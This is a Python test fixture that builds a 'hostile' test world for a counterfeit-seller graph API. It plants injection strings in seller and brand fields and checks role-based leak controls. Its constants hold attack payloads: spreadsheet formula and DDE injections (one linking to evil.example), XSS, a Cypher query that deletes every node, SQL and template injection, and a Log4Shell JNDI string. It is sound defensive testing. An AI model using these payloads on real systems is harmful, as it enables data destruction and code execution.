"""The world the hostile suite reads: a generated bundle with hostile text planted in
what sellers type, the leads fixture (agencies, leads, cases), stored networks, and
leads made through the API the way a careless or curious caller would make them.

What the checks need is collected from the database itself: a key or two of every
label, every personal identifier (the keys of api.scope.SENSITIVE_LABELS and the raw
spellings of phones), the sites behind each ring.
"""

from __future__ import annotations

import csv
import hashlib
import json
import shutil
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from fastapi.testclient import TestClient
from neo4j import Driver

from alliance.generate import generate_bundle, read_truth
from api.auth import issue_token
from api.scope import SENSITIVE_LABELS
from graph import access, alerts, model, screening, webhooks
from graph.access import Statement
from graph.caller import LOCAL_OPERATOR, Caller
from graph.seller_networks import analyze_networks
from loaders import load_paths
from loaders.uploads import UploadChecker

LEADS_BUNDLE = Path(__file__).parent.parent / "fixtures" / "leads"
PII_KEY = b"hostile-suite-key"

FORMULAS = ("=HYPERLINK(\"http://evil.example/x\",\"click\")", "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0",
            "@SUM(A1:A9)", "=1+1")
"""Spreadsheet formulas a seller could type as a nickname or a shop name."""
MARKUP = ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>")
INJECTION = ("'}) MATCH (n) DETACH DELETE n //", "\" OR 1=1 --", "{{7*7}}", "${jndi:ldap://x/a}")
ODD = ("\u202egnp.exe", "\u200b\u200b", "店" * 300, "a\\u0000b", "🚀🧨")
HOSTILE_TEXTS = FORMULAS + MARKUP + INJECTION + ODD

CALLERS: dict[str, Caller] = {
    "investigator": Caller(sub="hostile-investigator", role="investigator"),
    "admin": Caller(sub="hostile-admin", role="admin"),
    "brand_member": Caller(sub="hostile-brand-b2", role="brand_member", brand_id="B2"),
    "police_liaison": Caller(sub="hostile-liaison-gz", role="police_liaison", agency_id="AG-GZ"),
    "analyst": Caller(sub="hostile-analyst", role="analyst"),
    "platform": Caller(sub="hostile-platform", role="platform"),
}
"""One caller per role (graph.caller.ROLES); the brand and agency are the leads fixture's."""
SEES_IDENTIFIERS = frozenset({"investigator", "admin"})


def bearer(role: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {issue_token(CALLERS[role])}"}


@dataclass
class World:
    keys: dict[str, list[str]] = field(default_factory=dict)
    """label -> a few keys of that label present in the graph."""
    identifiers: set[str] = field(default_factory=set)
    """Every personal identifier value in the graph (never shown to other roles)."""
    ring_sellers: list[list[str]] = field(default_factory=list)
    ring_sites: list[list[str]] = field(default_factory=list)
    stranger_sites: set[str] = field(default_factory=set)
    """Sites behind the seller the brand member named in a lead of its own (a seller it
    cannot see): their ids must not reach the brand member."""
    leads: dict[str, str] = field(default_factory=dict)
    """What each lead made through the API is for -> its lead id."""
    setup_errors: list[str] = field(default_factory=list)


def _rewrite(path: Path, column: str, rows: dict[str, str], key: str) -> None:
    """Put hostile text into `column` of the rows whose `key` is in `rows`."""
    with path.open(encoding="utf-8", newline="") as handle:
        reader = csv.DictReader(handle)
        names = list(reader.fieldnames or [])
        records = list(reader)
    for record in records:
        if record[key] in rows:
            record[column] = rows[record[key]]
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=names)
        writer.writeheader()
        writer.writerows(records)


def _first_column(path: Path, count: int) -> list[str]:
    with path.open(encoding="utf-8", newline="") as handle:
        return [row[0] for row in list(csv.reader(handle))[1:count + 1]]


def plant(bundle: Path) -> None:
    """Hostile text in names and titles of the generated bundle (free text a seller or
    a brand types; all of it must load)."""
    texts = list(HOSTILE_TEXTS)
    for name, column in (("sellers", "nickname"), ("shops", "name"), ("listings", "title"),
                         ("brands", "name"), ("sites", "label")):
        path = bundle / f"{name}.csv"
        ids = _first_column(path, len(texts))
        _rewrite(path, column, {ident: texts[n % len(texts)] for n, ident in enumerate(ids)},
                 f"{name[:-1]}_id")


def empty(driver: Driver, database: str) -> None:
    """Delete every node, in transactions of 10,000 (an implicit transaction)."""
    with driver.session(database=database) as session:
        session.run("MATCH (n) CALL (n) { DETACH DELETE n } IN TRANSACTIONS OF 10000 ROWS").consume()


def load(driver: Driver, database: str, folder: Path, scale: int, seed: int = 11) -> dict[str, Any]:
    """Empty the database, write and load the bundles, store the networks; the truth."""
    empty(driver, database)
    bundle = folder / "bundle"
    if bundle.exists():
        shutil.rmtree(bundle)
    generate_bundle(bundle, scale=scale, seed=seed)
    plant(bundle)
    for source, path in (("hostile-generated", bundle), ("hostile-leads", LEADS_BUNDLE)):
        report = load_paths(driver, database, [path], source=source, pii_key=PII_KEY,
                            rejects_path=folder / f"{source}.rejects.jsonl")
        for f in report.files:
            assert f.read == f.loaded + f.rejected, f
    analyze_networks(driver, database)
    screen_first_upload(driver, database, bundle)
    register_webhook(driver, database)
    alerts.run_all(driver, database)
    settle_deliveries(driver, database)
    return read_truth(bundle)


def register_webhook(driver: Driver, database: str) -> None:
    """An investigators' webhook, so the alert run queues `Delivery` nodes for it."""
    access.write(driver, database, [Statement(webhooks.REGISTER, {
        "id": "hostile-webhook", "receiver": "investigator", "role": "investigator",
        "url": "https://hooks.example.org/hostile", "agency_id": None, "brand_id": None,
        "who": "hostile", "most": webhooks.MAX_PER_RECEIVER})])


def settle_deliveries(driver: Driver, database: str) -> None:
    """Mark the queued deliveries failed, so nothing tries to send them during the suite."""
    driver.execute_query("MATCH (d:Delivery) SET d.status = 'failed', d.last_error = 'hostile world'",
                         database_=database)


def screen_first_upload(driver: Driver, database: str, bundle: Path) -> None:
    """Record the screening of the bundle's first upload, so a `Screening` node exists."""
    first = json.loads((bundle / "uploads.jsonl").read_text(encoding="utf-8").splitlines()[0])
    valid, invalid = UploadChecker(PII_KEY).check([first])
    assert not invalid, invalid
    screening.screen(driver, database, [u for _, u in valid], LOCAL_OPERATOR,
                     screening.Thresholds(0.5, 0.25), record=True)


def _gql(client: TestClient, role: str, query: str, **variables: Any) -> dict[str, Any]:
    response = client.post("/graphql", json={"query": query, "variables": variables},
                           headers=bearer(role))
    body: dict[str, Any] = response.json() if response.status_code == 200 else {
        "errors": [{"message": f"HTTP {response.status_code}: {response.text[:300]}"}]}
    return body


CREATE = "mutation($input: CreateLeadInput!) { createLead(input: $input) { leadId } }"
STATUS = "mutation($id: ID!, $s: String!) { updateLeadStatus(leadId: $id, status: $s) { status } }"
PUSH = "mutation($id: ID!, $ag: ID!) { pushLead(leadId: $id, agencyId: $ag) { status } }"


def _made(world: World, what: str, body: dict[str, Any]) -> str | None:
    created = (body.get("data") or {}).get("createLead")
    if created:
        world.leads[what] = created["leadId"]
        return str(created["leadId"])
    world.setup_errors.append(f"{what}: {body.get('errors')}")
    return None


def make_leads(client: TestClient, world: World) -> None:
    """An investigator's lead on ring 1 pushed to the liaison's agency (its dossier shows
    the liaison ring sellers full of identifiers), and a brand member's own lead naming
    a seller of ring 2 it has nothing to do with."""
    ring1, ring2 = world.ring_sellers[0], world.ring_sellers[-1]
    body = _gql(client, "investigator", CREATE, input={
        "leadId": "HOSTILE-RING1", "title": FORMULAS[0], "brandIds": ["B1"],
        "sellerIds": ring1[:3], "siteIds": world.ring_sites[0][:1], "note": MARKUP[0]})
    lead = _made(world, "ring1 pushed to the liaison", body)
    if lead:
        for step in (_gql(client, "investigator", STATUS, id=lead, s="verified"),
                     _gql(client, "investigator", PUSH, id=lead, ag="AG-GZ")):
            if step.get("errors"):
                world.setup_errors.append(f"moving {lead}: {step['errors']}")
    body = _gql(client, "brand_member", CREATE, input={
        "leadId": "HOSTILE-CURIOUS", "title": "who is this", "sellerIds": ring2[:1]})
    _made(world, "brand member names a stranger", body)


def collect(driver: Driver, database: str, truth: dict[str, Any], world: World) -> None:
    """Keys of every label, every identifier, the rings and their sites."""
    for node_type in model.NODES:
        world.keys[node_type.label] = first_key(driver, database, node_type.label)
    collect_identifiers(driver, database, world)
    world.ring_sellers = [ring["sellers"] for ring in truth["rings"]]
    world.ring_sites = [ring["sites"] for ring in truth["rings"]]
    world.stranger_sites = set(world.ring_sites[-1])
    for ring in world.ring_sellers:
        world.keys["Seller"] = list(dict.fromkeys([*world.keys["Seller"], ring[0]]))
    world.keys["Site"] = list(dict.fromkeys([*world.keys["Site"], *world.ring_sites[-1]]))


def first_key(driver: Driver, database: str, label: str) -> list[str]:
    """The smallest key of `label` in the graph, as a list (empty when there is none)."""
    node_type = model.node(label)
    records, _, _ = driver.execute_query(
        f"MATCH (n:`{model.check_label(node_type.label)}`) WITH n[$key] AS k "
        "WHERE k IS NOT NULL RETURN k ORDER BY k LIMIT 1", key=node_type.key, database_=database)
    return [str(r["k"]) for r in records]


def collect_identifiers(driver: Driver, database: str, world: World) -> None:
    """The keys of every node of a sensitive label, and the raw spellings of phones."""
    for label in SENSITIVE_LABELS:
        key = model.node(label).key
        records, _, _ = driver.execute_query(
            f"MATCH (n:`{model.check_label(label)}`) RETURN n[$key] AS k, n.raw_forms AS raw",
            key=key, database_=database)
        for r in records:
            world.identifiers.add(str(r["k"]))
            world.identifiers.update(str(x) for x in (r["raw"] or []) if len(str(x)) >= 8)


def digest(driver: Driver, database: str) -> tuple[int, int, str]:
    """Nodes, relationships and a SHA-256 of every node and relationship with its
    properties; audit events (every read writes one) are left out."""
    records, _, _ = driver.execute_query(
        "MATCH (n) WHERE NOT n:AuditEvent "
        "OPTIONAL MATCH (n)-[r]->(m) WHERE NOT m:AuditEvent "
        "RETURN labels(n) AS l, properties(n) AS n, type(r) AS t, properties(r) AS r, "
        "elementId(m) IS NULL AS none", database_=database)
    lines = sorted(repr((sorted(rec["l"]), sorted((k, repr(v)) for k, v in rec["n"].items()),
                         rec["t"], sorted((k, repr(v)) for k, v in (rec["r"] or {}).items())))
                   for rec in records)
    counted, _, _ = driver.execute_query(
        "MATCH (n) WHERE NOT n:AuditEvent WITH count(n) AS nodes "
        "OPTIONAL MATCH (a)-[r]->(b) WHERE NOT a:AuditEvent AND NOT b:AuditEvent "
        "RETURN nodes, count(r) AS rels", database_=database)
    return (counted[0]["nodes"], counted[0]["rels"],
            hashlib.sha256("\n".join(lines).encode()).hexdigest())
